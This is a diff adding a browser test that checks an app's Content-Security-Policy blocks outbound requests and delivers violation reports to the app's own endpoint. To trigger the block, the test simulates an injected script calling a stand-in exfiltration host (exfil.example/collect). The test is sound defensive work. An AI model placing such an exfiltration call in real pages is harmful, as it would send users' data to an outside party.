@@ -140,6 +140,32 @@ describe('a response carrying another tenant\'s records', () => {
   });
 });
 
+describe('the Content-Security-Policy', () => {
+  it('is enforced in the browser (a fetch to an outside host is refused as connect-src), names the app\'s own report route, which takes the browser\'s report', async () => {
+    const page = await (await browser.newContext()).newPage();
+    const answer = (await page.goto(appUrl('/?tenant=globex')))!;
+    const csp = answer.headers()['content-security-policy'];
+    expect(csp).toContain("connect-src 'self'");
+    expect(csp).toContain('report-uri /api/klaxon/csp');
+    expect(csp).toContain('report-to klaxon-csp');
+    expect(answer.headers()['reporting-endpoints']).toBe('klaxon-csp="/api/klaxon/csp"');
+    // What a script injected into the page would try: the browser refuses it and raises the violation it reports.
+    const violation = await page.evaluate(
+      () =>
+        new Promise<{ directive: string; blocked: string } | 'no violation'>((resolve) => {
+          setTimeout(() => resolve('no violation'), 3_000);
+          document.addEventListener('securitypolicyviolation', (e) => resolve({ directive: e.effectiveDirective, blocked: e.blockedURI }), { once: true });
+          fetch('https://exfil.example/collect').catch(() => undefined);
+        }),
+    );
+    expect(violation).toEqual({ directive: 'connect-src', blocked: 'https://exfil.example/collect' });
+    // Chromium delivers report-to reports in batches up to a minute later: the report-uri form, as a browser posts it.
+    const report = { 'csp-report': { 'document-uri': appUrl('/?tenant=globex'), 'violated-directive': 'connect-src', 'effective-directive': 'connect-src', 'blocked-uri': 'https://exfil.example/collect', 'original-policy': csp, disposition: 'enforce', 'status-code': 200 } };
+    const res = await fetch(appUrl('/api/klaxon/csp'), { method: 'POST', headers: { 'content-type': 'application/csp-report' }, body: JSON.stringify(report) });
+    expect(res.status).toBe(204);
+  });
+});
+
 describe('bad input', () => {
   it('refuses a report body that is not what the boundary sends (400; 413 when too large), and nothing reaches Klaxon', async () => {
     const before = (await env.klaxon.incidents.list()).length;
